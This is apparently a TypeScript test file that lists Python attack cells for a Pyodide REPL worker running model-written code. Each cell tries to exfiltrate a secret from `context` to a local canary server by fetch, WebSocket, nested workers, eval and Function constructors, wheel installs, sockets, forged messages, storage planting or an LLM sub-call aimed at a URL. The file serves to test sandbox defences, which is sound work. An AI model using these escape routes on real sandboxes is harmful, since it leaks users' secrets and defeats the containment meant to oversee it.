// The sandbox attack catalogue: Python cells that model-written code could run in the REPL
// worker, each trying to get `context` (with its secret) to a canary server on this machine.
// Every cell reports its own verdict on one line, so the test can read it back from the REPL
// output the root model received:
//   LEAK-ATTEMPT-OK <name> ...   the attack believes it got data out (must never appear)
//   BLOCKED <name>: <Error>: ...  the attack failed inside the worker
//   SENT <name>: ...             the attack did something allowed (a postMessage, a timer) whose
//                                 effect only the outside can judge: the canary and the page
// Bodies are Python run inside `async def _attack()`, with the prelude's helpers in scope.

export type AttackOutcome = "blocked" | "sent";

export interface Attack {
  name: string;
  /** Python, indented as the body of an async function (4 spaces added here). */
  body: string;
  /** "sent": the cell may report SENT; its effect is judged outside the worker. */
  outcome: AttackOutcome;
  /** When blocked, the error must match this (proves *which* kind of wall stopped it). */
  error?: RegExp;
  /** Not a network request: the worker's CSP does not govern it, only lockDown() does. */
  cspDoesNotCover?: true;
}

/** Names of things an attack may plant, which the test then looks for in the page. */
export const PLANTED = {
  indexedDb: "rlm-planted-by-python",
  idbfsMount: "/rlm-planted-idbfs",
  broadcastChannels: ["rlm", "browser-rlm", "recursive-reader", "rlm-attack"],
} as const;

/** The first cell: helpers every attack uses, and proof the secret is readable. */
export function prelude(canaryUrl: string, canaryWsUrl: string): string {
  return `
import asyncio, json, re, js
from pyodide.ffi import create_proxy, to_js
CANARY = ${JSON.stringify(canaryUrl)}
CANARY_WS = ${JSON.stringify(canaryWsUrl)}
_m = re.search(r"SECRET-[0-9a-f]+", str(context))
SECRET = _m.group(0) if _m else "no-secret"
LOOT = SECRET + " " + str(context)[:200]
def url(path, base=None):
    return (base or CANARY) + "/" + path + "?d=" + js.encodeURIComponent(LOOT)
def obj(**kw):
    return to_js(kw, dict_converter=js.Object.fromEntries)
class Blocked(Exception):
    pass
def leaked(name, detail=""):
    print("LEAK-ATTEMPT-OK", name, detail)
def sent(name, detail=""):
    print("SENT", name + ":", detail)
async def within(awaitable, seconds=2.0):
    async def _wait():
        return await awaitable
    return await asyncio.wait_for(_wait(), seconds)
async def poll(check, seconds=1.5):
    for _ in range(int(seconds / 0.1)):
        value = check()
        if value:
            return value
        await asyncio.sleep(0.1)
    return check()
def js_get(name):
    # A global that lockDown() replaced reads as None; a missing one raises.
    value = getattr(js, name)
    if value is None:
        raise Blocked(name + " is not available in this worker")
    return value
print("PRELUDE-OK", "secret-found" if _m else "secret-missing", len(str(context)))
`.trim();
}

export function attackCell(attack: Attack): string {
  const body = attack.body
    .trim()
    .split("\n")
    .map((line) => `    ${line}`)
    .join("\n");
  return [
    `ATTACK = ${JSON.stringify(attack.name)}`,
    "async def _attack():",
    body,
    "try:",
    "    await _attack()",
    "except Exception as exc:",
    `    print("BLOCKED", ATTACK + ":", type(exc).__name__ + ":", " ".join(str(exc).split())[:240])`,
  ].join("\n");
}

// A nested worker's script: report back whether its own fetch got through.
const NESTED_WORKER_JS = `fetch(URL_HERE, {method: 'POST', body: 'x'}).then(r => postMessage('ok:' + r.status), e => postMessage('err:' + e))`;

// The end of a nested-worker attack (its worker is w): leaked only if the worker's own fetch got through.
const AWAIT_NESTED_WORKER = `got = []
w.addEventListener("message", create_proxy(lambda e: got.append(str(e.data))))
w.addEventListener("error", create_proxy(lambda e: got.append("error event")))
await poll(lambda: got, 2.0)
if not any(g.startswith("ok:") for g in got):
    raise Blocked("nested worker said " + repr(got))
leaked(ATTACK, got)`;

/** An attack that needs code compiled from a string: the frame's policy refuses it with an EvalError. */
function evalRefused(name: string, body: string): Attack {
  return { name, outcome: "blocked", error: /EvalError/, body };
}

/**
 * Takes a Function-like constructor (`ctor`, after `imports`), compiles `source` with it and
 * calls the result on the canary URL for `path`: refused with an EvalError.
 */
function constructorAttack(name: string, imports: string, ctor: string, source: string, path: string): Attack {
  const [ctorName] = ctor.split(" = ");
  return evalRefused(
    name,
    `
${imports ? `${imports}\n` : ""}${ctor}
f = ${ctorName}("u", ${JSON.stringify(source)})
await within(f(url(${JSON.stringify(path)})))
leaked(ATTACK)`,
  );
}

export const ATTACKS: Attack[] = [
  {
    name: "js.fetch",
    outcome: "blocked",
    body: `
fetch = js_get("fetch")
r = await within(fetch(url("fetch"), obj(method="POST", body=LOOT, mode="no-cors")))
leaked(ATTACK, f"type={r.type} status={r.status}")`,
  },
  {
    name: "fetch/XHR/WebSocket recovered from the global's prototype chain",
    outcome: "blocked",
    body: `
found = []
chain = [js.self]
for _ in range(8):
    # The end of the chain is JS null, which Pyodide may hand over as None or as jsnull.
    proto = js.Object.getPrototypeOf(chain[-1])
    if proto is None or type(proto).__name__ == "JsNull":
        break
    chain.append(proto)
for o in chain:
    for key in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts"):
        d = js.Object.getOwnPropertyDescriptor(o, key)
        if d is None:
            continue
        v = getattr(d, "value", None)
        if v is None and getattr(d, "get", None) is not None:
            v = js.Reflect.apply(d.get, js.self, to_js([]))
        if v is not None:
            found.append((key, v))
for key in ("fetch", "XMLHttpRequest", "WebSocket"):
    v = js.Reflect.get(js.globalThis, key)
    if v is not None:
        found.append((key, v))
if not found:
    raise Blocked("no network constructor anywhere on the global or its prototypes")
errors = []
for key, v in found:
    try:
        if key == "fetch":
            await within(js.Reflect.apply(v, js.self, to_js([url("proto-fetch")])))
            leaked(ATTACK, key)
            return
        if key == "XMLHttpRequest":
            x = js.Reflect.construct(v, to_js([]))
            x.open("GET", url("proto-xhr"), False)
            x.send()
            if x.status == 200:
                leaked(ATTACK, key)
                return
        if key == "WebSocket":
            ws = js.Reflect.construct(v, to_js([CANARY_WS + "/proto-ws"]))
            if await poll(lambda: ws.readyState == 1):
                leaked(ATTACK, key)
                return
    except Exception as e:
        errors.append(key + ": " + type(e).__name__ + ": " + str(e)[:80])
raise Blocked("; ".join(errors) or "found nothing usable")`,
  },
  {
    name: "pyodide.http.pyfetch",
    outcome: "blocked",
    body: `
from pyodide.http import pyfetch
r = await within(pyfetch(url("pyfetch"), method="POST", body=LOOT))
leaked(ATTACK, r.status)`,
  },
  {
    name: "pyodide.http.pyfetch with fetcher=js.fetch looked up again",
    outcome: "blocked",
    body: `
from pyodide.http import pyfetch
r = await within(pyfetch(url("pyfetch-fetcher"), fetcher=js.self.fetch))
leaked(ATTACK, r.status)`,
  },
  {
    name: "pyodide.http.open_url",
    outcome: "blocked",
    body: `
from pyodide.http import open_url
text = open_url(url("open_url")).read()
leaked(ATTACK, text[:20])`,
  },
  {
    name: "pyodide.http.pyxhr",
    outcome: "blocked",
    body: `
from pyodide.http import pyxhr
r = pyxhr.post(url("pyxhr"), data=LOOT)
if r.status_code != 200:
    raise Blocked(f"status {r.status_code}")
leaked(ATTACK, r.status_code)`,
  },
  {
    name: "XMLHttpRequest (async)",
    outcome: "blocked",
    body: `
x = js_get("XMLHttpRequest").new()
x.open("POST", url("xhr-async"))
x.send(LOOT)
await poll(lambda: x.readyState == 4)
if x.status != 200:
    raise Blocked(f"readyState {x.readyState} status {x.status}")
leaked(ATTACK)`,
  },
  {
    name: "XMLHttpRequest (sync)",
    outcome: "blocked",
    body: `
x = js_get("XMLHttpRequest").new()
x.open("POST", url("xhr-sync"), False)
x.send(LOOT)
if x.status != 200:
    raise Blocked(f"status {x.status}")
leaked(ATTACK)`,
  },
  {
    name: "WebSocket",
    outcome: "blocked",
    body: `
ws = js_get("WebSocket").new(CANARY_WS + "/ws?d=" + js.encodeURIComponent(LOOT))
await poll(lambda: ws.readyState in (1, 3))
if ws.readyState != 1:
    raise Blocked(f"readyState {ws.readyState}")
ws.send(LOOT)
leaked(ATTACK)`,
  },
  {
    name: "WebSocketStream",
    outcome: "blocked",
    body: `
wss = js_get("WebSocketStream").new(CANARY_WS + "/wss")
await within(wss.opened)
leaked(ATTACK)`,
  },
  {
    name: "EventSource",
    outcome: "blocked",
    body: `
es = js_get("EventSource").new(url("eventsource"))
await poll(lambda: es.readyState != 0)
if es.readyState != 1:
    raise Blocked(f"readyState {es.readyState}")
leaked(ATTACK)`,
  },
  {
    name: "WebTransport",
    outcome: "blocked",
    body: `
wt = js_get("WebTransport").new("https://127.0.0.1:" + CANARY.rsplit(":", 1)[1] + "/wt")
await within(wt.ready)
leaked(ATTACK)`,
  },
  {
    name: "navigator.sendBeacon",
    outcome: "blocked",
    body: `
beacon = getattr(js.navigator, "sendBeacon", None)
if beacon is None:
    raise Blocked("no sendBeacon on this worker's navigator")
if not js.navigator.sendBeacon(url("beacon"), LOOT):
    raise Blocked("sendBeacon refused")
leaked(ATTACK)`,
  },
  {
    name: "fetchLater",
    outcome: "blocked",
    body: `
js_get("fetchLater")(url("fetch-later"))
leaked(ATTACK)`,
  },
  {
    name: "importScripts",
    outcome: "blocked",
    body: `
js_get("importScripts")(url("import-scripts.js"))
leaked(ATTACK)`,
  },
  {
    name: "nested Worker from a data: URL",
    outcome: "blocked",
    body: `
src = ${JSON.stringify(NESTED_WORKER_JS)}.replace("URL_HERE", json.dumps(url("worker-data")))
w = js_get("Worker").new("data:text/javascript," + js.encodeURIComponent(src))
${AWAIT_NESTED_WORKER}`,
  },
  {
    name: "nested Worker from a blob: URL",
    outcome: "blocked",
    body: `
src = ${JSON.stringify(NESTED_WORKER_JS)}.replace("URL_HERE", json.dumps(url("worker-blob")))
blob_url = js.URL.createObjectURL(js.Blob.new(to_js([src]), obj(type="text/javascript")))
w = js_get("Worker").new(blob_url, obj(type="module"))
${AWAIT_NESTED_WORKER}`,
  },
  {
    name: "SharedWorker from a data: URL",
    outcome: "blocked",
    body: `
src = ${JSON.stringify(NESTED_WORKER_JS)}.replace("URL_HERE", json.dumps(url("shared-worker")))
js_get("SharedWorker").new("data:text/javascript," + js.encodeURIComponent(src))
await asyncio.sleep(0.5)
leaked(ATTACK, "constructed")`,
  },
  constructorAttack(
    "Function constructor via js.setTimeout.constructor",
    "",
    "F = js.setTimeout.constructor",
    "return (self.fetch || fetch)(u, {method: 'POST'})",
    "function-ctor",
  ),
  constructorAttack(
    "Function constructor via the host bridge (_rlm_host.call.constructor)",
    "import _rlm_host",
    "F = _rlm_host.call.constructor",
    "return import(u)",
    "bridge-ctor.js",
  ),
  evalRefused(
    "js.eval",
    `
js.eval("new EventSource('" + url("eval") + "')")
leaked(ATTACK)`,
  ),
  evalRefused(
    "pyodide.code.run_js (eval)",
    `
from pyodide.code import run_js
await within(run_js("fetch(" + json.dumps(url("run-js")) + ")"))
leaked(ATTACK)`,
  ),
  evalRefused(
    "dynamic import() of a URL via run_js",
    `
from pyodide.code import run_js
mod = await within(run_js("import(" + json.dumps(url("dynamic-import.js")) + ")"))
leaked(ATTACK, mod)`,
  ),
  {
    name: "setTimeout with a string of code",
    outcome: "sent",
    body: `
handle = js.setTimeout("fetch(" + json.dumps(url("timeout-string")) + ")", 50)
await asyncio.sleep(0.5)
sent(ATTACK, f"timer {handle} scheduled; only the canary can tell if it ran")`,
  },
  {
    name: "setTimeout callback that exfiltrates after the cell",
    outcome: "sent",
    body: `
def later():
    # Runs from the event loop after the cell has returned: everything again, quietly.
    for key in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource"):
        try:
            v = getattr(js, key, None)
            if v is None:
                continue
            if key == "fetch":
                v(url("late-fetch"))
            elif key == "XMLHttpRequest":
                x = v.new(); x.open("GET", url("late-xhr")); x.send()
            else:
                v.new(CANARY_WS + "/late" if key == "WebSocket" else url("late-es"))
        except Exception:
            pass
    try:
        js.FontFace.new("late", "url(" + url("late-font.woff2") + ")").load()
    except Exception:
        pass
js.setTimeout(create_proxy(later), 1500)
js.setInterval(create_proxy(later), 2000)
sent(ATTACK, "callbacks scheduled at 1.5 s and every 2 s")`,
  },
  {
    name: "pyodide_js.loadPackage(url)",
    outcome: "blocked",
    body: `
import pyodide_js
loaded = await within(pyodide_js.loadPackage(url("evil-1.0-py3-none-any.whl"), obj(checkIntegrity=False)), 4)
if not loaded or len(loaded) == 0:
    raise Blocked("loadPackage loaded nothing")
leaked(ATTACK, loaded)`,
  },
  {
    name: "micropip.install(url)",
    outcome: "blocked",
    body: `
import pyodide_js
try:
    import micropip
except ImportError:
    await within(pyodide_js.loadPackage("micropip"), 4)
    import micropip
await within(micropip.install(url("evil-1.0-py3-none-any.whl")), 4)
leaked(ATTACK)`,
  },
  {
    name: "pyodide_js._api internals (loadBinaryFile, package base URL)",
    outcome: "blocked",
    body: `
import pyodide_js
api = pyodide_js._api
errors = []
try:
    data = await within(api.loadBinaryFile(url("api-binary")))
    leaked(ATTACK, "loadBinaryFile")
    return
except Exception as e:
    errors.append("loadBinaryFile: " + type(e).__name__)
try:
    api.config.packageBaseUrl = CANARY + "/packages/"
    api.config.cdnUrl = CANARY + "/cdn/"
    loaded = await within(pyodide_js.loadPackage("regex"), 4)
    if loaded and len(loaded):
        leaked(ATTACK, "package base URL")
        return
    errors.append("loadPackage from a redirected base URL loaded nothing")
except Exception as e:
    errors.append("package base URL: " + type(e).__name__)
raise Blocked("; ".join(errors))`,
  },
  {
    name: "pyodide_js.globals / runPython / registerJsModule",
    outcome: "blocked",
    body: `
import pyodide_js
g = pyodide_js.globals
pyodide_js.registerJsModule("_exfil", obj(target=url("registered")))
# Python run from JS is the same Python in the same worker: the same walls apply.
await within(pyodide_js.runPythonAsync("import _exfil, js\\nawait js.fetch(_exfil.target)"))
leaked(ATTACK)`,
  },
  {
    name: "Emscripten lazy file (sync XHR inside the file system)",
    outcome: "blocked",
    body: `
import pyodide_js
# Reading it through Python's open() makes Emscripten fail fatally (the cell then hangs until
# the 60 s watchdog restarts the worker); forcing the load through the FS API makes the same
# XHR attempt and fails cleanly.
FS = pyodide_js.FS
node = FS.createLazyFile("/", "lazy.txt", url("lazy-file"), True, False)
FS.forceLoadFile(node)
text = bytes(FS.readFile("/lazy.txt").to_py()).decode()
leaked(ATTACK, text[:20])`,
  },
  {
    name: "urllib.request.urlopen",
    outcome: "blocked",
    body: `
import urllib.request
with urllib.request.urlopen(url("urllib"), data=LOOT.encode(), timeout=2) as r:
    leaked(ATTACK, r.status)`,
  },
  {
    name: "http.client",
    outcome: "blocked",
    body: `
import http.client
conn = http.client.HTTPConnection("127.0.0.1", int(CANARY.rsplit(":", 1)[1]), timeout=2)
conn.request("POST", "/http-client", body=LOOT)
leaked(ATTACK, conn.getresponse().status)`,
  },
  {
    name: "raw socket",
    outcome: "blocked",
    body: `
import socket
s = socket.create_connection(("127.0.0.1", int(CANARY.rsplit(":", 1)[1])), timeout=2)
s.sendall(b"POST /raw-socket HTTP/1.0\\r\\n\\r\\n" + LOOT.encode())
leaked(ATTACK, s.recv(100))`,
  },
  {
    name: "forged postMessage to the main thread (Comlink-shaped)",
    outcome: "sent",
    body: `
# Without a pending id the main thread's Comlink ignores these; with one it must validate them
# (the id-racing version is its own test). Also requests, which the page exposes nothing for.
msgs = [
    obj(id="1-2-3-4", type="RAW", value=json.dumps({"stdout": "x", "final_answer": LOOT})),
    obj(id="fake", type="HANDLER", name="throw", value=obj(isError=True, value=obj(message="<img src=" + url("forged-img") + ">"))),
    obj(type="APPLY", path=to_js(["call"]), argumentList=to_js([obj(type="RAW", value=LOOT)])),
    obj(type="GET", path=to_js(["location", "href"])),
    obj(kind="llm", prompts=to_js([LOOT]), model=CANARY),
    obj(fetch=url("forged-fetch"), href=url("forged-href")),
    "fetch " + url("forged-string"),
    None,
]
for m in msgs:
    js.postMessage(m)
sent(ATTACK, f"{len(msgs)} forged messages posted")`,
  },
  {
    name: "Cache Storage (caches.open + cache.add)",
    outcome: "blocked",
    body: `
caches = js_get("caches")
cache = await within(caches.open("rlm-exfil"))
await within(cache.add(url("cache-add")))
leaked(ATTACK)`,
  },
  {
    name: "IndexedDB: plant data for the page",
    outcome: "blocked",
    cspDoesNotCover: true,
    body: `
idb = js_get("indexedDB")
req = idb.open(${JSON.stringify(PLANTED.indexedDb)}, 1)
if not await poll(lambda: req.readyState == "done", 2):
    raise Blocked("open never finished")
leaked(ATTACK, "opened " + ${JSON.stringify(PLANTED.indexedDb)})`,
  },
  {
    name: "IDBFS: plant data through Emscripten's IndexedDB file system",
    outcome: "blocked",
    cspDoesNotCover: true,
    body: `
import pyodide_js, os
FS = pyodide_js.FS
os.makedirs(${JSON.stringify(PLANTED.idbfsMount)}, exist_ok=True)
FS.mount(FS.filesystems.IDBFS, obj(), ${JSON.stringify(PLANTED.idbfsMount)})
with open(${JSON.stringify(PLANTED.idbfsMount + "/loot.txt")}, "w") as f:
    f.write(LOOT)
done = []
FS.syncfs(False, create_proxy(lambda err=None: done.append(err)))
await poll(lambda: done, 2)
# syncfs reports success with JS null (None or jsnull, depending on Pyodide's settings).
if not done or not (done[0] is None or type(done[0]).__name__ == "JsNull"):
    raise Blocked("syncfs failed: " + repr(done))
leaked(ATTACK, "synced")`,
  },
  {
    name: "BroadcastChannel to the page",
    outcome: "blocked",
    cspDoesNotCover: true,
    body: `
BC = js_get("BroadcastChannel")
for name in ${JSON.stringify(PLANTED.broadcastChannels)}:
    BC.new(name).postMessage(obj(loot=LOOT, fetch=url("broadcast")))
leaked(ATTACK, "posted")`,
  },
  {
    name: "FontFace load from a URL",
    outcome: "blocked",
    body: `
face = js.FontFace.new("exfil", "url(" + url("font.woff2") + ")")
await within(face.load())
leaked(ATTACK, face.status)`,
  },
  {
    name: "image loads (Image, createImageBitmap, OffscreenCanvas)",
    outcome: "blocked",
    body: `
errors = []
try:
    img = js_get("Image").new()
    img.src = url("img")
    leaked(ATTACK, "Image")
    return
except Exception as e:
    errors.append("Image: " + type(e).__name__)
try:
    canvas = js.OffscreenCanvas.new(1, 1)
    blob = await within(canvas.convertToBlob())
    bitmap = await within(js.createImageBitmap(await within((await within(js_get("fetch")(url("bitmap")))).blob())))
    leaked(ATTACK, "createImageBitmap")
    return
except Exception as e:
    errors.append("createImageBitmap: " + type(e).__name__)
raise Blocked("; ".join(errors))`,
  },
  {
    name: "Notification with an icon URL",
    outcome: "sent",
    body: `
# The browser fetches the icon only if the page was granted notifications: the canary judges.
events = []
n = js_get("Notification").new("hi", obj(icon=url("icon.png"), body=LOOT))
n.addEventListener("show", create_proxy(lambda e: events.append("show")))
n.addEventListener("error", create_proxy(lambda e: events.append("error")))
await poll(lambda: events, 1.5)
sent(ATTACK, f"permission {js_get('Notification').permission}, events {events}")`,
  },
  {
    name: "navigator.serviceWorker.register",
    outcome: "blocked",
    body: `
sw = getattr(js.navigator, "serviceWorker", None)
if sw is None:
    raise Blocked("no navigator.serviceWorker in this worker")
await within(sw.register(url("sw.js")))
leaked(ATTACK)`,
  },
  {
    name: "navigator.storage / OPFS file handle",
    outcome: "blocked",
    cspDoesNotCover: true,
    body: `
storage = getattr(js.navigator, "storage", None)
if storage is None:
    raise Blocked("no navigator.storage in this worker")
root = await within(storage.getDirectory())
leaked(ATTACK, "OPFS root")`,
  },
  {
    name: "sub-call naming a URL as the model",
    outcome: "sent",
    body: `
reply = llm_query(LOOT[:200], model=CANARY + "/v1/chat/completions")
sent(ATTACK, "reply " + str(reply)[:60])`,
  },
  {
    name: "navigator.storageBuckets (a bucket's indexedDB and caches)",
    outcome: "blocked",
    cspDoesNotCover: true,
    body: `
buckets = getattr(js.navigator, "storageBuckets", None)
if buckets is None:
    raise Blocked("no navigator.storageBuckets in this worker")
bucket = await within(buckets.open("rlm-planted-bucket"))
req = bucket.indexedDB.open(${JSON.stringify(PLANTED.indexedDb)}, 1)
if not await poll(lambda: req.readyState == "done", 2):
    raise Blocked("open never finished")
leaked(ATTACK, "bucket indexedDB opened")`,
  },
  {
    name: "navigator getters applied from WorkerNavigator.prototype",
    outcome: "blocked",
    cspDoesNotCover: true,
    body: `
proto = js.Object.getPrototypeOf(js.navigator)
got = []
for key in ("storage", "serviceWorker", "storageBuckets"):
    d = js.Object.getOwnPropertyDescriptor(proto, key)
    getter = getattr(d, "get", None) if d is not None else None
    if getter is not None:
        value = js.Reflect.apply(getter, js.navigator, to_js([]))
        if value is not None:
            got.append(key)
if not got:
    raise Blocked("no getter left on the prototype")
leaked(ATTACK, got)`,
  },
  constructorAttack(
    "AsyncFunction constructor via an async Pyodide API",
    "import pyodide_js",
    "AsyncFunction = pyodide_js.loadPackage.constructor",
    "return (await import(u)).default",
    "async-ctor.js",
  ),
  evalRefused(
    "Function constructor taken from the global (js.Function)",
    `
f = js.Function.new("u", "return import(u)")
await within(f(url("global-function.js")))
leaked(ATTACK)`,
  ),
];
